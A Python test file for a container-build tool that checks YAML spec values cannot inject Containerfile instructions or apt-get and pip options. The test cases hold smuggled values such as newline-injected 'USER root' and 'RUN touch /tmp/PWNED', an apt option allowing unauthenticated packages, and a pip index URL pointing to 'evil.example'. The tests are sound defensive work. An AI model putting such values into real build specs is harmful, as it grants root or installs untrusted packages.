"""A spec value cannot add a Containerfile instruction or an option.

A line break (or another control character, a trailing backslash, a here-document) in ``user``,
``workdir``, ``run``, ``packages``, ``pip``, ``from``, ``env`` or ``labels`` would start or swallow an
instruction (``USER root``, ``RUN ...``) in the rendered Containerfile; a package or pip entry that is
an option would change apt-get or pip. Each is refused when the spec is loaded, located (file:line,
key path) and hinted; the renderer's own quoting refuses it too, should a layer bypass the spec.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from hepstack.build.render import render_containerfile
from hepstack.errors import HepstackError, SpecErrors
from hepstack.spec import Stack, load_stack
from hepstack.spec.models import Layer, StackSpec
from tests.cli_in_process import run_cli

HEAD = """\
stack: demo
release: "1.0"
layers:
  base:
    bootstrap: {suite: bookworm}
  app:
    from: base
"""
# (YAML line added to layer app, the key path of the error, a word of its message)
CASES = {
    "user": ('    user: "1000\\nUSER root"', "layers.app.user", "is not a user"),
    "workdir": ('    workdir: "/opt\\nUSER root"', "layers.app.workdir", "control character"),
    "run": ('    run: ["true\\nRUN touch /tmp/PWNED"]', "layers.app.run[0]", "control character"),
    "run, trailing backslash": ('    run: ["true \\\\"]', "layers.app.run[0]", "joins the next"),
    "run, here-document": ('    run: ["cat <<USER"]', "layers.app.run[0]", "here-document"),
    "run, unicode line separator": ('    run: ["true\\u2028USER root"]', "layers.app.run[0]", "control"),
    "packages": (
        '    packages: ["python3\\nRUN touch /tmp/PWNED"]',
        "layers.app.packages[0]",
        "Debian package",
    ),
    "packages, an option": (
        '    packages: ["-oAPT::Get::AllowUnauthenticated=1"]',
        "layers.app.packages[0]",
        "Debian package",
    ),
    "pip": ('    pip: ["numpy\\nUSER root"]', "layers.app.pip[0]", "control character"),
    "pip, an option": ('    pip: ["--index-url=http://evil.example"]', "layers.app.pip[0]", "pip option"),
    "pip, a comma in a mounted path": ('    pip: ["./pkg,target=/etc"]', "layers.app.pip[0]", "mount option"),
    "from": ('    from: "base\\nUSER root"', "layers.app.from", "control character"),
    "from, not a reference": ('    from: "Base Image"', "layers.app.from", "image reference"),
    "env value": ('    env: {A: "1\\nUSER root"}', "layers.app.env.A", "control character"),
    "label value": ('    labels: {a: "1\\nUSER root"}', "layers.app.labels", "control character"),
    "label key": ('    labels: {"a\\nUSER root": "1"}', "layers.app.labels", "label key"),
    "cmd with NUL": ('    cmd: ["a\\0b"]', "layers.app.cmd", "NUL"),
}


@pytest.mark.parametrize("case", list(CASES))
def test_a_value_that_would_change_the_containerfile_is_refused(case: str, tmp_path: Path) -> None:
    line, key_path, message = CASES[case]
    spec = tmp_path / "stack.yaml"
    head = HEAD.replace("    from: base\n", "") if line.startswith("    from:") else HEAD
    spec.write_text(head + line + "\n")
    with pytest.raises(SpecErrors) as caught:
        load_stack(spec)
    matching = [error for error in caught.value.errors if error.key_path.startswith(key_path)]
    assert matching, [str(error) for error in caught.value.errors]
    (error,) = matching
    assert message in str(error) and error.line in (7, 8) and error.hint, (str(error), error.hint)


def test_dry_run_show_prints_no_injected_instruction(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    spec = tmp_path / "stack.yaml"
    spec.write_text(HEAD + '    user: "1000\\nUSER root"\n    run: ["true\\nRUN touch /tmp/PWNED"]\n')
    code, out, err = run_cli(capsys, "build", str(spec), "--dry-run", "--show")
    assert code == 2 and "USER root" not in out and "RUN touch" not in out
    assert (
        err.startswith("error: the stack spec has 2 problems")
        and "\nhint: " in err
        and "Traceback" not in err
    )


@pytest.mark.parametrize(
    ("key", "value", "refusal"),
    [
        ("user", "0\nUSER root", "control character"),
        ("workdir", "/x\nUSER root", "control character"),
        ("run", ["true\nUSER root"], "control character"),
        ("run", ["true \\"], "joins the next"),
        ("packages", ["python3\nUSER root"], "control character"),
        ("pip", ["numpy\nUSER root"], "control character"),
        ("labels", {"a": "b\nUSER root"}, "control character"),
        ("env", {"A": "b\nUSER root"}, "control character"),
    ],
)
def test_the_renderer_refuses_what_the_spec_would_have(key: str, value: object, refusal: str) -> None:
    """A layer made without validation (model_construct) still cannot inject: the renderer quotes."""
    layer = Layer.model_construct(from_="base", **{key: value})
    spec = StackSpec.model_construct(stack="demo", release="1.0", layers={"app": layer})
    with pytest.raises(HepstackError, match=refusal):
        render_containerfile(Stack(spec, Path("/spec/stack.yaml"), {}), "app", "localhost/demo/base:1")


def test_non_ascii_labels_and_env_are_written_as_they_are(tmp_path: Path) -> None:
    """json.dumps wrote "Universit\\u00e9", which buildah stores literally as Universitu00e9."""
    spec = tmp_path / "stack.yaml"
    spec.write_text(
        HEAD + '    labels: {org.example.vendor: "Université"}\n    env: {A: "é $HOME \\\\ \\""}\n'
    )
    text = render_containerfile(load_stack(spec), "app", "localhost/demo/base:1")
    assert 'LABEL "org.example.vendor"="Université"' in text
    assert 'ENV A="é \\$HOME \\\\ \\""' in text
